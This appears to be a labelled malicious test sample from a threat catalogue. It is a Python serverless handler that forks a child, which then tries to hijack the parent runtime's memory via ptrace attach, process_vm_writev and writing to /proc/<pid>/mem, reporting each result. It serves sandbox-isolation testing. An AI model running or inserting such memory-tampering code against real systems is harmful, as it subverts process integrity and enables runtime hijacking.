"""MALICIOUS example (threat catalogue §1b, runtime hijack in memory; ATT&CK T1055): a child
process goes after the runtime that serves the invocations: it attaches with ptrace, writes into
its memory with process_vm_writev, and opens /proc/<runtime>/mem for writing, the three ways to
patch the runtime loop without replacing its image. Each attempt's outcome is returned."""
import ctypes
import os

PTRACE_ATTACH = 16


def attempt(fn):
    try:
        return fn()
    except OSError as e:
        return "%s: %s" % (type(e).__name__, e.strerror)


def tamper(target):
    libc = ctypes.CDLL(None, use_errno=True)
    results = {}
    r = libc.ptrace(PTRACE_ATTACH, target, None, None)
    results["ptrace"] = "attached" if r == 0 else os.strerror(ctypes.get_errno())

    class IoVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    buf = ctypes.create_string_buffer(b"127.0.0.1:9009")
    local = IoVec(ctypes.cast(buf, ctypes.c_void_p), 14)
    remote = IoVec(0x400000, 14)
    libc.process_vm_writev.argtypes = [ctypes.c_int, ctypes.POINTER(IoVec), ctypes.c_ulong,
                                       ctypes.POINTER(IoVec), ctypes.c_ulong, ctypes.c_ulong]
    r = libc.process_vm_writev(target, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    results["process_vm_writev"] = "wrote" if r >= 0 else os.strerror(ctypes.get_errno())

    def open_mem():
        fd = os.open("/proc/%d/mem" % target, os.O_RDWR)
        os.close(fd)
        return "opened"

    results["proc_mem"] = attempt(open_mem)
    return results


def handler(event, context):
    runtime = os.getpid()
    r, w = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(r)
        try:
            out = repr(tamper(runtime)).encode()
        except Exception as e:  # noqa: BLE001 - report, never raise in the child
            out = repr(e).encode()
        os.write(w, out[:4000])
        os._exit(0)
    os.close(w)
    data = b""
    while True:
        chunk = os.read(r, 4096)
        if not chunk:
            break
        data += chunk
    os.close(r)
    os.waitpid(child, 0)
    return {"runtime": runtime, "results": data.decode(errors="replace")}
